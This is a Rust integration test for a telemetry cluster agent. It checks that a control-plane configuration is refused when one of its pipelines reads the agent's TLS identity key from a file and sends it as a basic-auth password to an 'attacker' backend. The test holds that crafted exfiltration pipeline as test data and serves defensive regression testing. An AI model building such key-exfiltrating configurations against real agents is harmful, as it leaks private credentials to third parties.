//! The real agent binary in observer mode, fed by test-support's fake observer (over
//! TLS, as the agent insists), refuses what a tenant must never make it do, whoever
//! rendered the configuration: a pipeline that reads a file on the agent is refused
//! with FAILED and the field path, the last-known-good configuration keeps running,
//! and nothing reaches the file-reading pipeline's backend.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use kaas_cluster_agent::control::identity::AgentIdentity;
use kaas_cluster_agent::control::lkg::LastKnownGood;
use kaas_proto::control::v1::{AgentMessage, ConfigState, ConfigStatus, agent_message};
use kaas_test_support::fake_observer::{FakeIdentity, FakeObserver, FakeServerTls};
use kaas_test_support::process::{ChildGuard, free_port};
use kaas_test_support::remote_write_receiver::RemoteWriteReceiver;
use kaas_test_support::tls::TestPki;

const AGENT: &str = env!("CARGO_BIN_EXE_cluster-agent");
/// Generous for a loaded 2-core machine.
const DEADLINE: Duration = Duration::from_secs(30);
const CLUSTER: &str = "edge-1";

fn status_of(message: &AgentMessage) -> Option<&ConfigStatus> {
    match &message.body {
        Some(agent_message::Body::ConfigStatus(status)) => Some(status),
        _ => None,
    }
}

/// The agent's configuration with these pipelines (JSON, as the observer renders).
fn config(pipelines: &[serde_json::Value]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "apiVersion": "telemetry.kaas-observer.io/v1alpha1",
        "kind": "AgentConfig",
        "externalLabels": {"cluster": CLUSTER},
        "pipelines": pipelines,
    }))
    .expect("JSON")
}

/// A pipeline scraping the agent's own `/metrics` every second into `url`.
fn pipeline(name: &str, agent_port: u16, url: &str) -> serde_json::Value {
    serde_json::json!({
        "metadata": {"name": name},
        "spec": {
            "input": {
                "scrapeInterval": "1s",
                "scrapeTimeout": "1s",
                "static": {"targets": [{"addresses": [format!("127.0.0.1:{agent_port}")]}]},
            },
            "output": {"prometheusRemoteWrite": {"url": url}},
        },
    })
}

async fn wait_for_samples(receiver: &RemoteWriteReceiver, more_than: usize, log: &Path) {
    let until = Instant::now() + DEADLINE;
    while receiver.accepted_samples() <= more_than {
        assert!(
            Instant::now() < until,
            "no data; agent log:\n{}",
            std::fs::read_to_string(log).unwrap_or_default()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Issue 13, finding 2: a configuration from the control stream whose pipeline reads a
/// file on the agent (here its own identity key, as basic-auth password to a backend
/// of the sender's choosing) is refused: FAILED naming the pipeline and the field path,
/// the last-known-good configuration keeps running and stays on disk, and the
/// backend hears nothing. On 552c13e the agent applied it and sent the key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_reading_pipeline_from_the_observer_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let pki = TestPki::generate(&["127.0.0.1"]);
    AgentIdentity {
        cluster_id: CLUSTER.to_owned(),
        key_pem: pki.client_key.clone(),
        cert_pem: pki.client_cert.clone(),
        ca_pem: pki.ca.clone(),
    }
    .save(&data)
    .unwrap();
    let observer = FakeObserver::start_tls(
        FakeIdentity {
            cluster_id: CLUSTER.to_owned(),
            certificate_pem: pki.client_cert.clone(),
            ca_bundle_pem: pki.ca.clone(),
        },
        &[],
        FakeServerTls {
            cert_pem: pki.server_cert.clone(),
            key_pem: pki.server_key.clone(),
        },
    )
    .await;
    let good_backend = RemoteWriteReceiver::start().await;
    let attacker_backend = RemoteWriteReceiver::start().await;

    let port = free_port();
    let log = dir.path().join("agent.log");
    let _agent = ChildGuard::spawn(
        "cluster-agent",
        Command::new(AGENT)
            .arg("run")
            .arg("--observer")
            .arg(observer.url())
            .arg("--data-dir")
            .arg(&data)
            .arg("--listen-address")
            .arg(format!("127.0.0.1:{port}"))
            .arg("--otlp-grpc-listen-address")
            .arg("127.0.0.1:0")
            .arg("--otlp-http-listen-address")
            .arg("127.0.0.1:0")
            .arg("--zipkin-listen-address")
            .arg("127.0.0.1:0")
            .arg("--kubernetes")
            .arg("off")
            .arg("--config-health-window-ms")
            .arg("300")
            .env("RUST_LOG", "info")
            .env_remove("KAAS_JOIN_TOKEN")
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).expect("agent log")),
    );

    // A good configuration first: it becomes the last-known-good.
    let good = pipeline("good", port, &good_backend.url());
    let first = observer.set_desired_config(config(std::slice::from_ref(&good)));
    observer
        .wait_for(DEADLINE, |m| {
            status_of(m)
                .is_some_and(|s| s.config_hash == first && s.state == ConfigState::Applied as i32)
        })
        .await;
    wait_for_samples(&good_backend, 0, &log).await;

    // Then one whose new pipeline sends the agent's identity key as a password.
    let key_file = data.join("identity").join("tls.key");
    let mut exfiltrate = pipeline("exfiltrate", port, &attacker_backend.url());
    exfiltrate["spec"]["output"]["prometheusRemoteWrite"]["authentication"] = serde_json::json!(
        {"basic": {"user": {"value": "x"}, "password": {"valueFrom": {"file": key_file}}}}
    );
    let second = observer.set_desired_config(config(&[exfiltrate, good]));
    let refused = observer
        .wait_for(DEADLINE, |m| {
            status_of(m).is_some_and(|s| s.config_hash == second)
        })
        .await;
    let status = status_of(&refused).unwrap();
    assert_eq!(status.state, ConfigState::Failed as i32, "{status:?}");
    assert_eq!(
        status.running_config_hash, first,
        "the good configuration runs"
    );
    let errors: Vec<(&str, &str)> = status
        .errors
        .iter()
        .map(|e| (e.pipeline.as_str(), e.field_path.as_str()))
        .collect();
    assert_eq!(
        errors,
        [(
            "exfiltrate",
            "spec.output.prometheusRemoteWrite.authentication.basic.password.valueFrom.file"
        )]
    );
    assert!(
        status.errors[0].message.starts_with(
            "reading files on the agent is only allowed in a standalone agent's own configuration"
        ),
        "{}",
        status.errors[0].message
    );

    // The last-known-good keeps shipping (scrapes go on) while the file-reading
    // pipeline's backend hears nothing; the saved last-known-good is the good one.
    let shipped = good_backend.accepted_samples();
    wait_for_samples(&good_backend, shipped + 2, &log).await;
    assert!(
        attacker_backend.received().is_empty(),
        "{:?}",
        attacker_backend.received()
    );
    let saved = LastKnownGood::load(&data).unwrap().unwrap();
    assert_eq!(saved.hash.as_slice(), first.as_slice());
}
